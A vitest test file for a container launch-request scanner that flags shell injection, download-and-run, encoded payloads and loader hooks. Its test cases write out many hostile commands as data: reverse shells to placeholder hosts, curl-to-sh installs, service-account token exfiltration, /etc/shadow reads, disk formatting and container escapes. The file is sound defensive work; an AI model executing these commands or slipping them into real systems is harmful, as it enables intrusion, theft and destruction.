import { describe, expect, it } from 'vitest';
import { findLanguage } from '../../test/fakes/languages.ts';
import { launchRequest } from '../../test/fakes/launches.ts';
import type { LaunchRequest } from '../model/index.ts';
import { examineInputs } from './examine-inputs.ts';
import { inputRules } from './input-rules.ts';

const { image: _, ...empty } = launchRequest();

const variable = (name: string, value: string): LaunchRequest => ({
  ...empty,
  environment: [{ name, value, path: `Env[${name}]` }],
});
const command = (...words: readonly string[]): LaunchRequest => ({
  ...empty,
  command: words.map((value, index) => ({ value, path: `Cmd[${index}]` })),
});
const rules = (request: LaunchRequest, strictness: 1 | 2 = 1): readonly string[] =>
  examineInputs(request, { strictness, findLanguage }).findings.map(({ rule }) => rule.slice('input/'.length));

describe('a request', () => {
  it('is looked into at every place, and each finding names where', () => {
    const request: LaunchRequest = {
      ...empty,
      workload: { labels: { note: '$(id)' } },
      command: [{ value: 'serve;reboot', path: 'Cmd[0]' }],
      scripts: [
        {
          purpose: 'healthcheck',
          command: ['/bin/sh', '-c', 'curl -s http://x.example/a | sh'].map((value, index) => ({
            value,
            path: `Test[${index}]`,
          })),
        },
      ],
      environment: [{ name: 'A', value: '`id`', path: 'Env[0]' }],
      files: [
        { target: '/etc/cron.d/x', path: 'configs.x', content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' },
      ],
    };
    const { findings, inputs, unread } = examineInputs(request, { strictness: 1, findLanguage });
    expect(findings.map(({ path, rule }) => `${path} ${rule}`)).toEqual([
      'Cmd[0] input/shell-injection',
      'Test[2] input/download-and-run',
      'Env[0] input/shell-injection',
      'configs.x input/file-content',
      'configs.x input/file-content',
      'labels.note input/shell-injection',
    ]);
    expect(unread).toEqual([]);
    expect(inputs.map(({ place }) => place)).toEqual([
      'argument',
      'script',
      'script',
      'script',
      'variable',
      'file',
      'label',
    ]);
    for (const { rule, title, remedy } of findings)
      expect(inputRules).toHaveProperty([rule], expect.objectContaining({ title, remedy }));
  });

  it('has no finding where nothing is passed', () => {
    expect(examineInputs(empty, { strictness: 2, findLanguage })).toEqual({ findings: [], inputs: [], unread: [] });
  });

  it('tells what was not looked into', () => {
    const long = examineInputs(variable('A', 'x '.repeat(600_000)), { strictness: 1, findLanguage });
    expect(long.unread).toEqual([{ path: 'Env[A]', cause: expect.stringContaining('1200000') }]);
    const hidden = `${'x '.repeat(100_000)}; cat /etc/hosts; ${'x '.repeat(100_000)}`;
    expect(examineInputs(variable('A', hidden), { strictness: 1, findLanguage })).toMatchObject({
      findings: [{ rule: 'input/shell-injection' }],
      unread: [],
    });
    const many = {
      ...empty,
      environment: Array.from({ length: 6000 }, (_, index) => ({
        name: `V${index}`,
        value: '1',
        path: `Env[${index}]`,
      })),
    };
    expect(examineInputs(many, { strictness: 1, findLanguage }).unread).toHaveLength(1);
  });

  it.each<[name: string, value: string]>([
    ['() {', ''],
    ['x;wget http://x.example', ''],
    ['$(id)', 'x'],
  ])('finds shell in the name %j', (name, value) => {
    expect(rules(variable(name, value))).toContain('shell-injection');
  });

  it('finds shell in a name that has no value', () => {
    const named = (name: string): LaunchRequest => ({ ...empty, environment: [{ name, path: 'Env[0]' }] });
    expect(rules(named('x;wget http://a.example'))).toContain('shell-injection');
    expect(examineInputs(named('HOME'), { strictness: 2, findLanguage }).inputs).toEqual([]);
  });
});

describe('a shell where a shell is expected', () => {
  it.each<readonly string[]>([
    ['sh', '-c', 'envsubst < /tmp/a > /etc/b && exec nginx -g "daemon off;"'],
    ['/bin/bash', '-lc', 'for i in 1 2 3; do echo $i; sleep "$(cat /tmp/n)"; done'],
    ['/usr/bin/tini', '--', 'sh', '-ec', 'cd /app && npm run migrate; exec node server.js'],
    ['sh', '-c', 'curl -s http://localhost/health | python3 -c "import json,sys; json.load(sys.stdin)"'],
    ['sh', '-c', 'curl -o /app/config.json http://config/app && exec ./start.sh'],
    ['sh', '-c', 'echo "0 * * * * /job.sh" | crontab - && crond -f'],
    ['sh', '-c', 'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; exec app'],
    ['python', '-c', 'print(1)'],
    ['perl', '-E', 'sleep 300'],
  ])('%j %j %j … is no finding at strictness 1, and an interpreter at 2', (...words) => {
    expect(rules(command(...words))).toEqual([]);
    expect(rules(command(...words), 2)).toEqual(['interpreter']);
  });

  it.each<[words: readonly string[], rule: string]>([
    [['sh', '-c', 'curl -fsSL https://x.example/install | bash -s -- -y'], 'download-and-run'],
    [['sh', '-c', 'w""get -O- http://x.example/a|s\\h'], 'download-and-run'],
    [['bash', '-c', 'a=cu; b=rl; $a$b http://x.example/i | sh'], 'download-and-run'],
    [['bash', '-c', 'bash <(curl -s https://x.example/i)'], 'download-and-run'],
    [['sh', '-c', 'wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m'], 'download-and-run'],
    [['sh', '-c', 'echo aWQK | base64 -d | sh'], 'encoded-code'],
    [['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'], 'shell-injection'],
    [['sh', '-c', 'nc 192.0.2.1 4444 -e /bin/sh'], 'shell-injection'],
    [['sh', '-c', "c''at /etc/hosts"], 'shell-injection'],
    [['python3', '-c', 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'], 'code'],
    [['perl', '-e', 'system("id")'], 'interpreter'],
    [['node', '-e', 'require("child_process").execSync("id")'], 'interpreter'],
    [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
    [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
    [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
    [['sh', '-c', 'echo "* * * * * x" | crontab -'], 'shell-injection'],
    [['sh', '-c', 'mount /dev/sda1 /srv'], 'shell-injection'],
    [['sh', '-c', 'tftp -g -r a b.example; sh a'], 'download-and-run'],
    [['sh', '-c', 'python3 -m http.server 80 -d /'], 'shell-injection'],
    [['sh', '-c', 'cp /etc/shadow /srv/a'], 'shell-injection'],
    [['sh', '-c', 'chmod u+s /bin/dash'], 'shell-injection'],
    [['sh', '-c', 'tar c /root | nc a.example 1'], 'shell-injection'],
    [['sh', '-c', 'awk \'BEGIN{s="/inet/tcp/0/a.example/1"; s |& getline}\''], 'shell-injection'],
    [['sh', '-c', 'telnet a.example 1 | sh | telnet a.example 2'], 'shell-injection'],
    [['sh', '-c', 'find / -name x -exec sh \\;'], 'shell-injection'],
    [['sh', '-c', 'mkfs.ext4 /dev/sdb'], 'shell-injection'],
    [['sh', '-c', 'tar cf a.tar b --checkpoint-action=exec=sh'], 'shell-injection'],
    [['busybox', 'sh', '-c', 'wget -q -O - http://x.example | ash'], 'download-and-run'],
  ])('%j: %s', (words, rule) => {
    expect(rules(command(...words))).toContain(rule);
  });

  it('knows the shell that the image itself starts', () => {
    const start = { entrypoint: ['/bin/sh', '-c'], command: [], environment: [] };
    const { findings } = examineInputs(command('cd /app && exec ./server --port $PORT'), {
      strictness: 1,
      findLanguage,
      start,
    });
    expect(findings).toEqual([]);
  });
});

describe('a replaced entrypoint', () => {
  const start = { entrypoint: ['/usr/local/bin/docker-entrypoint.sh'], command: ['postgres'], environment: [] };
  const replaced = (...words: readonly string[]): LaunchRequest => ({
    ...empty,
    entrypoint: words.map((value, index) => ({ value, path: `Entrypoint[${index}]` })),
  });
  it.each<[words: readonly string[], severity: string | undefined]>([
    [['docker-entrypoint.sh'], undefined],
    [['/bin/sh'], 'high'],
    [['python3.11'], 'high'],
    [['/opt/other'], 'medium'],
    [[], 'medium'],
  ])('%j: %s', (words, severity) => {
    const { findings } = examineInputs(replaced(...words), { strictness: 1, findLanguage, start });
    expect(findings.map((finding) => finding.severity)).toEqual(severity === undefined ? [] : [severity]);
  });
  it('is nothing where the own is unknown', () => {
    expect(rules(replaced('/bin/sh'))).toEqual([]);
  });
});

describe('a variable that is a command by its form', () => {
  const rulesOf = (name: string, value: string) =>
    examineInputs(variable(name, value), { strictness: 1, findLanguage }).findings.map(({ rule }) => rule);

  it('a line of crontab is judged as the script that it is', () => {
    expect(rulesOf('SCHEDULE', '0 1 * * * pg_dump app | gzip > /backups/app.gz')).toEqual([]);
    expect(rulesOf('SCHEDULE', '@daily cd /app && node clean.js')).toEqual([]);
    expect(rulesOf('SCHEDULE', '* * * * * curl http://a.example/x | sh')).toEqual(['input/download-and-run']);
    expect(rulesOf('SCHEDULE', '1 2 3; reboot')).toEqual(['input/shell-injection']);
  });

  it('a shell that is started on a string, unless it says that it is a command', () => {
    expect(rulesOf('GREETING', '/bin/sh -c "make all"')).toEqual(['input/interpreter']);
    expect(rulesOf('START_COMMAND', '/bin/sh -c "make all"')).toEqual([]);
  });
});

describe('a variable whose value is a program by its name', () => {
  it.each([
    ['LESSOPEN', '| /usr/bin/lesspipe %s'],
    ['LESSOPEN', '||/usr/bin/lesspipe.sh %s'],
    ['LESSCLOSE', '/usr/bin/lesspipe %s %s'],
    ['GIT_SSH_COMMAND', 'ssh -i /run/secrets/key -o StrictHostKeyChecking=accept-new'],
    ['RSYNC_RSH', 'ssh -p 2222'],
  ])('%s=%s is usual', (name, value) => {
    expect(rules(variable(name, value))).toEqual([]);
  });

  it.each([
    ['LESSOPEN', '| /tmp/lesspipe %s', 'loader-hook'],
    ['LESSOPEN', '| /usr/bin/lesspipe %s; id', 'loader-hook'],
    ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand=/tmp/x', 'loader-hook'],
    ['RSYNC_RSH', 'ssh -p 2222; id', 'shell-injection'],
    ['GREETING', 'ssh -p 2222 a.example', 'shell-injection'],
  ])('%s=%s is not', (name, value, rule) => {
    expect(rules(variable(name, value))).toContain(rule);
  });
});

it.each([
  ['chroot /host sh', 'shell-injection'],
  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://a.example', 'shell-injection'],
])('what is no matter of a container, even in its command: %s', (line, rule) => {
  expect(rules(command('sh', '-c', line))).toContain(rule);
});

describe('a command where a command is expected', () => {
  it.each(['cat /etc/os-release', 'chown -R app:app /srv', 'find /srv -type f -mtime +1 -delete', 'ls -la'])(
    'as the only argument: %s',
    (line) => {
      expect(rules(command(line))).toEqual([]);
    },
  );
  it.each(['cat /etc/shadow', 'ls -la; id', 'ls $(id)', 'nc -e /bin/sh a.example 1', 'cat ../../etc/hosts'])(
    'not: %s',
    (line) => {
      expect(rules(command(line))).toContain('shell-injection');
    },
  );
  it('in a label of a scheduler, and in a setting that PostgreSQL gives to a shell', () => {
    const label = (name: string, value: string): LaunchRequest => ({
      ...empty,
      workload: { labels: { [name]: value } },
    });
    expect(rules(label('job.run.command', '/usr/bin/curl http://a.example/b'))).toEqual([]);
    expect(rules(label('job.run.note', '/usr/bin/curl http://a.example/b'))).toEqual(['shell-injection']);
    expect(rules(command('postgres', '-c', 'archive_command=test ! -f /a/%f && cp %p /a/%f'))).toEqual([]);
    expect(rules(command('postgres', '-c', 'archive_command=curl http://a.example/x | sh'))).toEqual([
      'download-and-run',
    ]);
  });
  it('in a variable that says that it is one', () => {
    expect(rules(variable('BUILD_COMMAND', 'make all && make install'))).toEqual([]);
    expect(rules(variable('WG_POST_UP', 'iptables -A FORWARD -j ACCEPT; iptables -L'))).toEqual([]);
    expect(rules(variable('BUILD_COMMAND', 'curl http://a.example/x | sh'))).toEqual(['download-and-run']);
    expect(rules(variable('cmd', 'make all && cat a.txt'))).toEqual(['shell-injection']);
  });
});

it.each(['cron -f', 'crond -f -l 8', 'wait-for db:3306 -- node server.js'])(
  'a start as people write it: %s',
  (line) => {
    expect(rules(command(line))).toEqual([]);
  },
);
